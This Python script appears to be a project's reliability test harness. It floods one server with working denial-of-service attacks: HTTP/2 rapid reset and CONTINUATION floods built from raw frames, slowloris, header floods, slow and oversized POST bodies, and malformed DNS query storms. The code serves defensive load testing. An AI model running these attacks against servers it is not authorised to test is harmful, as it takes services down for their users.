#!/usr/bin/env python3
"""Attacks on one node, for the hostile-input matrix (docs/reliability.md):
HTTP/2 as raw frames over TLS (ALPN h2, no HTTP/2 library), HTTP/1.1 and
DNS over UDP.

  scripts/hostile.py rapid-reset  ADDR HOST [SECONDS] [CONNECTIONS]
  scripts/hostile.py continuation ADDR HOST [SECONDS] [CONNECTIONS]
  scripts/hostile.py slowloris    ADDR HOST [SECONDS] [CONNECTIONS]
  scripts/hostile.py dns-garbage  ADDR HOST [SECONDS]
  scripts/hostile.py header-flood ADDR HOST [SECONDS] [CONNECTIONS]
  scripts/hostile.py slow-body    ADDR HOST [SECONDS] [CONNECTIONS] [PATH]
  scripts/hostile.py huge-body    ADDR HOST [SECONDS] [CONNECTIONS] [PATH]

rapid-reset: on each connection, a HEADERS for a new stream followed at
once by its RST_STREAM (CANCEL), as fast as the socket takes them
(CVE-2023-44487). continuation: a HEADERS without END_HEADERS, then
CONTINUATION frames of header bytes that never end (CVE-2024-27316 and
kin). slowloris: CONNECTIONS plain HTTP/1.1 connections to port 80, each
sending its request head one header line every 2 s, never ending it; it
reports when the server closed them. dns-garbage: bad queries as fast as
one process sends them (a name pointing at itself, a name cut short, a
3.9 kB message with names past 255 bytes, ANY, 3 bytes), counting the
answers and their bytes. header-flood: on plain HTTP/1.1 (port 80), a
request head whose header lines (100 bytes each) never end, sent as fast
as the socket takes them. slow-body: a POST to PATH (default
/api/hello) declaring a 1 MB body, sent one byte a second. huge-body: a
POST to PATH with a chunked body (no declared length, so only counting
can stop it) sent in 64 KiB chunks as fast as the socket takes them. For
these three: how each connection ended (the status line the server
answered, or closed), the most bytes one connection got in, and when the
server ended them. A connection the server closes is opened again until SECONDS pass.
Prints one JSON line: connections opened, streams (or CONTINUATION
frames) and bytes sent, how each connection ended (GOAWAY code, reset,
closed), and the most bytes one connection got in before it ended.
"""

import json
import select
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 1, 3, 4, 7, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(value):
    return bytes([len(value)]) + value


def request_block(host):
    # :method GET, :scheme https, :path / (static table), :authority literal.
    return b"\x82\x87\x84" + b"\x41" + literal(host.encode())


def junk_header(n):
    # A literal header without indexing, new name: x-<n>: 100 bytes.
    name = b"x-%d" % n
    return b"\x00" + literal(name) + literal(b"a" * 100)


def connect(addr, host):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((addr, 443), timeout=5)
    tls = ctx.wrap_socket(raw, server_hostname=host)
    if tls.selected_alpn_protocol() != "h2":
        raise RuntimeError("the server did not choose h2")
    tls.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return tls


class Reader:
    """Reads what the server sent, between writes on the same thread (an
    SSL socket must not be read and written from two threads at once):
    answers SETTINGS, remembers a GOAWAY, notices the end."""

    def __init__(self, tls):
        self.tls, self.goaway, self.ended, self.buf = tls, None, False, b""

    def poll(self):
        try:
            while self.tls.pending() or select.select([self.tls], [], [], 0)[0]:
                data = self.tls.recv(65536)
                if not data:
                    self.ended = True
                    return
                self.buf += data
                self.frames()
        except (OSError, ssl.SSLError):
            self.ended = True

    def frames(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                break
            kind, flags = self.buf[3], self.buf[4]
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            if kind == SETTINGS and not flags & ACK:
                self.tls.sendall(frame(SETTINGS, ACK, 0))
            elif kind == GOAWAY and len(payload) >= 8:
                self.goaway = int.from_bytes(payload[4:8], "big")

    def drain(self, seconds):
        until = time.time() + seconds
        while not self.ended and time.time() < until:
            if select.select([self.tls], [], [], 0.1)[0] or self.tls.pending():
                self.poll()


def attack(mode, addr, host, until, totals, lock):
    while time.time() < until:
        try:
            tls = connect(addr, host)
        except (OSError, ssl.SSLError, RuntimeError) as e:
            with lock:
                totals["connect_failed"] += 1
                totals["last_error"] = str(e)
            time.sleep(0.05)
            continue
        reader = Reader(tls)
        sent = units = 0
        block = request_block(host)
        stream = 1
        how = "closed"
        try:
            if mode == "continuation":
                f = frame(HEADERS, END_STREAM, 1, block)
                tls.sendall(f)
                sent += len(f)
            while time.time() < until and not reader.ended:
                if mode == "rapid-reset":
                    f = frame(HEADERS, END_STREAM | END_HEADERS, stream, block) + frame(
                        RST_STREAM, 0, stream, struct.pack(">I", 8)
                    )
                    stream += 2
                    if stream >= 2**31:
                        break
                else:
                    f = frame(CONTINUATION, 0, 1, b"".join(junk_header(units * 10 + i) for i in range(10)))
                tls.sendall(f)
                sent += len(f)
                units += 1
                if units % 16 == 0:
                    reader.poll()
        except (OSError, ssl.SSLError):
            how = "reset"
        reader.drain(2)
        if reader.goaway is not None:
            how = "goaway %d" % reader.goaway
        elif time.time() >= until and not reader.ended:
            how = "open at the end"
        try:
            tls.close()
        except OSError:
            pass
        with lock:
            totals["connections"] += 1
            totals["units"] += units
            totals["bytes"] += sent
            totals["ended"][how] = totals["ended"].get(how, 0) + 1
            totals["most_bytes_one_connection"] = max(totals["most_bytes_one_connection"], sent)


def slowloris(addr, host, seconds, conns):
    start = time.time()
    socks, refused = [], 0
    for _ in range(conns):
        try:
            s = socket.create_connection((addr, 80), timeout=2)
            s.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n")
            socks.append([s, None])
        except OSError:
            refused += 1
    n = 0
    while time.time() < start + seconds:
        time.sleep(2)
        n += 1
        for entry in socks:
            if entry[1] is not None:
                continue
            try:
                entry[0].sendall(b"x-%d: a\r\n" % n)
                entry[0].setblocking(False)
                try:
                    if not entry[0].recv(4096):
                        entry[1] = time.time() - start
                except BlockingIOError:
                    pass
                entry[0].setblocking(True)
            except OSError:
                entry[1] = time.time() - start
    closed = sorted(e[1] for e in socks if e[1] is not None)
    print(json.dumps({
        "attack": "slowloris",
        "connections": len(socks),
        "refused": refused,
        "closed_by_server": len(closed),
        "open_at_the_end": len(socks) - len(closed),
        "closed_after_secs_median": closed[len(closed) // 2] if closed else None,
        "seconds": seconds,
    }))


def dns_garbage(addr, host, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)

    def header(i):
        return struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0)

    name = b"".join(literal(label.encode()) for label in host.split(".")) + b"\x00"
    kinds = [
        header(1) + b"\xc0\x0c\x00\x01\x00\x01",
        header(2) + name[: len(name) // 2],
        header(3) + (b"\x3f" + b"a" * 63) * 60 + b"\x00\x00\x01\x00\x01",
        header(4) + name + b"\x00\xff\x00\x01",
        b"\x12\x34\x01",
    ]
    sent = bytes_out = got = bytes_in = 0
    until = time.time() + seconds
    while time.time() < until:
        for k in kinds:
            try:
                s.sendto(k, (addr, 53))
                sent += 1
                bytes_out += len(k)
            except BlockingIOError:
                pass
        try:
            while True:
                d = s.recv(65535)
                got += 1
                bytes_in += len(d)
        except BlockingIOError:
            pass
    print(json.dumps({
        "attack": "dns-garbage",
        "queries": sent,
        "query_bytes": bytes_out,
        "answers": got,
        "answer_bytes": bytes_in,
        "seconds": seconds,
    }))


def http1(addr, seconds, conns, head, feed, pace):
    """CONNECTIONS threads, each opening connections to ADDR:80 until
    SECONDS pass: HEAD is sent, then FEED(n) over and over (pace seconds
    apart) until the server answers or closes."""
    totals = {"connections": 0, "connect_failed": 0, "bytes": 0, "ended": {},
              "most_bytes_one_connection": 0, "ended_after_secs": []}
    lock = threading.Lock()
    until = time.time() + seconds

    def one():
        while time.time() < until:
            try:
                s = socket.create_connection((addr, 80), timeout=5)
            except OSError:
                with lock:
                    totals["connect_failed"] += 1
                time.sleep(0.1)
                continue
            opened, sent, how, n = time.time(), 0, "open at the end", 0
            try:
                s.sendall(head)
                sent += len(head)
                while time.time() < until:
                    r, _, _ = select.select([s], [], [], 0)
                    if r:
                        answer = s.recv(4096)
                        how = answer.split(b"\r\n", 1)[0].decode("latin-1") or "closed"
                        break
                    chunk = feed(n)
                    n += 1
                    s.sendall(chunk)
                    sent += len(chunk)
                    if pace:
                        time.sleep(pace)
            except OSError as e:
                how = "reset" if isinstance(e, ConnectionResetError) else "closed"
            s.close()
            with lock:
                totals["connections"] += 1
                totals["bytes"] += sent
                key = how[:40]
                totals["ended"][key] = totals["ended"].get(key, 0) + 1
                totals["most_bytes_one_connection"] = max(totals["most_bytes_one_connection"], sent)
                if how != "open at the end":
                    totals["ended_after_secs"].append(round(time.time() - opened, 2))

    threads = [threading.Thread(target=one) for _ in range(conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    ended = sorted(totals.pop("ended_after_secs"))
    totals["ended_after_secs_median"] = ended[len(ended) // 2] if ended else None
    totals["ended_after_secs_max"] = ended[-1] if ended else None
    totals["seconds"] = seconds
    return totals


def main():
    mode, addr, host = sys.argv[1], sys.argv[2], sys.argv[3]
    seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 10
    conns = int(sys.argv[5]) if len(sys.argv) > 5 else 4
    if mode == "dns-garbage":
        return dns_garbage(addr, host, seconds)
    if mode == "slowloris":
        return slowloris(addr, host, seconds, conns)
    path = sys.argv[6] if len(sys.argv) > 6 else "/api/hello"
    if mode == "header-flood":
        head = b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n"
        totals = http1(addr, seconds, conns, head, lambda n: b"x-%08d: %s\r\n" % (n, b"a" * 86), 0)
    elif mode == "slow-body":
        head = b"POST " + path.encode() + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\nContent-Length: 1000000\r\n\r\n"
        totals = http1(addr, seconds, conns, head, lambda n: b"a", 1.0)
    elif mode == "huge-body":
        head = b"POST " + path.encode() + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
        chunk = b"10000\r\n" + b"a" * 65536 + b"\r\n"
        totals = http1(addr, seconds, conns, head, lambda n: chunk, 0)
    else:
        totals = None
    if totals is not None:
        totals["attack"] = mode
        print(json.dumps(totals))
        return
    if mode not in ("rapid-reset", "continuation"):
        sys.exit("mode: rapid-reset, continuation, slowloris, dns-garbage, header-flood, slow-body or huge-body")
    totals = {
        "attack": mode,
        "connections": 0,
        "connect_failed": 0,
        "units": 0,
        "bytes": 0,
        "ended": {},
        "most_bytes_one_connection": 0,
    }
    lock = threading.Lock()
    until = time.time() + seconds
    threads = [threading.Thread(target=attack, args=(mode, addr, host, until, totals, lock)) for _ in range(conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    totals["seconds"] = seconds
    totals["unit"] = "streams opened and reset" if mode == "rapid-reset" else "CONTINUATION frames"
    print(json.dumps(totals))


if __name__ == "__main__":
    main()
